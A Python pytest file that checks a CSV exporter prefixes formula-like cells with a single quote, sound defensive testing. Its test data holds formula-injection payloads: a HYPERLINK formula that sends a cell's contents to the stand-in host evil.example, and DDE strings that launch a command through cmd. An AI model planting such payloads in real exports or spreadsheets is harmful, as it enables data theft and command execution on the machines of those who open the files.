"""CSV cells a spreadsheet would run as formulas get a single quote in front; others stay."""

from __future__ import annotations

import csv
import io

import pytest

from blamefree.exporters.tables import BOM, csv_text, safe_cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Scale consumers = 24", "Scale consumers = 24"),
        ("2024-03-12T22:40:00Z", "2024-03-12T22:40:00Z"),
        ("'already quoted", "'already quoted"),
        ("", ""),
        (None, ""),
        (3, "3"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(value: object, written: str) -> None:
    assert safe_cell(value) == written


def test_rows_are_written_by_the_csv_module_and_read_back_cell_for_cell() -> None:
    text = csv_text(
        ["text", "owner"],
        [["=1+1", "@ops"], ['a "quoted", multi\nline cell', "Lena"], ["-5", None]],
    )
    assert text.startswith(BOM)
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert rows == [
        ["text", "owner"],
        ["'=1+1", "'@ops"],
        ['a "quoted", multi\nline cell', "Lena"],
        ["'-5", ""],
    ]
